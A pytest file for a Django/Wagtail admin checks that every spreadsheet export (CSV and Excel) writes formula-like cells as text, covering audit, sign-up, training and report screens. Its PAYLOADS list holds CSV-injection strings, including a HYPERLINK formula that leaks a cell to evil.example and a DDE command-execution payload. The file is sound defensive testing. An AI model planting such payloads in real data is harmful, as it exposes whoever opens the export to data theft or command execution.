"""Every spreadsheet the admin exports keeps typed text as text: a cell that would start
a formula ("=HYPERLINK(...)" in a name) is written with a leading quote, in CSV and in
Excel, whichever export it comes from."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import resolve
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import PageLogEntry, Site, Workflow

from constituencies.signups.models import EventSignup
from constituencies.website.models import NewsPage
from governance.models import AuditEvent
from labourhub.safe_spreadsheet_export import SafeDictWriter, SafeSpreadsheetExportMixin, safe_cell
from membersnet.training.models import Course, CourseCompletion
from tests.factories import UserFactory, add_event, add_news
from tests.helpers import client_for
from tests.roles.test_admin_gate import admin_paths

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_is_written_as_text(payload):
    assert safe_cell(payload) == f"'{payload}"
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["name"])
    writer.writerow({"name": payload})
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == f"'{payload}"


@pytest.mark.parametrize("value", ["Ann Example", "", "It's = fine", "a@example.org", None, 7, -7])
def test_other_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def _exporting_views():
    found = set()
    for urlconf in ("labourhub.urls_tenant", "labourhub.urls_public"):
        for path in admin_paths(1):
            view = resolve(path, urlconf).func
            view_class = getattr(view, "view_class", None)
            exports = (
                view_class
                and issubclass(view_class, SpreadsheetExportMixin)
                and view.view_initkwargs.get("list_export", view_class.list_export)
            )
            if exports:
                found.add((path, view_class))
    return found


def test_every_admin_screen_that_exports_writes_safe_cells():
    exporting = _exporting_views()
    paths = {path for path, _ in exporting}
    assert {"/admin/audit/", "/admin/completions/", "/admin/signups/"} <= paths
    assert {"/admin/reports/site-history/", "/admin/redirects/"} <= paths
    unsafe = sorted(
        path
        for path, view_class in exporting
        if not issubclass(view_class, SafeSpreadsheetExportMixin)
    )
    assert unsafe == []


def _download(client, path, export_format):
    response = client.get(path, {"export": export_format})
    assert response.status_code == 200, path
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        assert response["Content-Type"].startswith("text/csv")
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _cells(rows):
    # Excel files are XML, which reads a carriage return back as a line feed.
    return {cell.replace("\r", "\n") for row in rows[1:] for cell in row if isinstance(cell, str)}


def _assert_all_neutralised(rows):
    cells = _cells(rows)
    for payload in (payload.replace("\r", "\n") for payload in PAYLOADS):
        assert f"'{payload}" in cells, payload
        assert payload not in cells, payload


FORMATS = ["csv", "xlsx"]


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_training_completions_export_keeps_names_as_text(hub, staff_user, export_format):
    course = Course.objects.create(title="Basics", slug="basics", summary="…")
    for payload in PAYLOADS:
        CourseCompletion.objects.create(
            user=UserFactory(), course=course, name_on_certificate=payload
        )
    rows = _download(client_for("localhost", staff_user), "/admin/completions/", export_format)
    _assert_all_neutralised(rows)


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_audit_log_export_keeps_summaries_as_text(hub, staff_user, export_format):
    for payload in PAYLOADS:
        AuditEvent.objects.create(action="test", summary=payload)
    rows = _download(client_for("localhost", staff_user), "/admin/audit/", export_format)
    _assert_all_neutralised(rows)


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_sign_ups_export_keeps_what_visitors_typed_as_text(
    clp_a, officer_a, in_schema, export_format
):
    with in_schema(clp_a):
        event = add_event("Street stall")
        for n, payload in enumerate(PAYLOADS):
            EventSignup.objects.create(
                event=event,
                name=payload,
                email=f"person{n}@example.org",
                status=EventSignup.Status.CONFIRMED,
                consent_text="Yes",
                retain_until=event.ends_at + dt.timedelta(days=30),
            )
    rows = _download(client_for(clp_a, officer_a), "/admin/signups/", export_format)
    _assert_all_neutralised(rows)


@pytest.fixture
def pages_titled_as_formulas(clp_a, officer_a, in_schema):
    """A news story per payload, each locked, logged, published and in moderation, as
    an officer could leave them for central staff to export."""
    with in_schema(clp_a):
        workflow = Workflow.objects.filter(active=True).first()
        for payload in PAYLOADS:
            page = add_news(payload)
            revision = page.save_revision(user=officer_a)
            revision.publish(user=officer_a)
            PageLogEntry.objects.log_action(instance=page, action="wagtail.edit", user=officer_a)
            if workflow is not None:
                page.save_revision(user=officer_a)
                workflow.start(page, officer_a)
            Redirect.objects.create(
                old_path=f"/old-{page.pk}",
                site=Site.objects.get(),
                redirect_link=payload,
            )
        NewsPage.objects.update(locked=True, locked_by=officer_a, locked_at=timezone.now())
        return workflow


@pytest.mark.parametrize("export_format", FORMATS)
@pytest.mark.parametrize(
    "path",
    [
        "/admin/reports/locked/",
        "/admin/reports/site-history/",
        "/admin/reports/aging-pages/",
        "/admin/reports/workflow/",
        "/admin/reports/workflow_tasks/",
        "/admin/redirects/",
    ],
)
def test_wagtails_reports_keep_what_officers_typed_as_text(
    clp_a, staff_user, pages_titled_as_formulas, path, export_format
):
    if "workflow" in path and pages_titled_as_formulas is None:
        pytest.fail("the site has no active workflow to report on")
    rows = _download(client_for(clp_a, staff_user), path, export_format)
    _assert_all_neutralised(rows)
